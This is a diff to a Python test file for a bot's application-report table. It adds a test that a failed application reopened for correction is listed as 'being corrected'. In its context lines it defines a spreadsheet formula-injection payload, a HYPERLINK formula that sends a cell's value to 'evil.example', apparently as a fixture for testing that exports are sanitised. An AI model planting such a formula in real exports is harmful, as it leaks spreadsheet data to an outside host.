@@ -11,12 +11,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bot.reports.table import FORMATS, Table, application_table, as_file
+from conversations import events
 from conversations.application import CARD_FIELDS, EarlierAttempt
 from conversations.erasure import without_form
 from conversations.questions import ASKED
 from conversations.verdict import Decision, Score, Verdict
 from storage.agents import Agent, Role
-from tests.support.forms import AGENT, NOW, READ, decided, pending, until
+from tests.support.forms import AGENT, FAILED, NOW, READ, after, decided, pending, press, until
 
 RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -50,6 +51,13 @@ def test_a_row_tells_everything_except_who_it_is() -> None:
     assert told["mobile_number"] == "•••• 678"
     assert (told["consent_version"], told["consent_language"]) == ("2026-11", "en")
     assert told["begun"] == "2026-11-23 12:00:00"
+
+
+def test_a_failed_application_that_is_open_again_is_no_mere_draft() -> None:
+    corrected = after(decided(FAILED), press(events.CorrectionBegun))
+    headings, *rows = application_table([corrected, until("gender")], {}, is_masked=True)
+
+    assert [row[headings.index("state")] for row in rows] == ["being corrected", "filling"]
 
 
 @pytest.mark.parametrize("file_format", FORMATS)
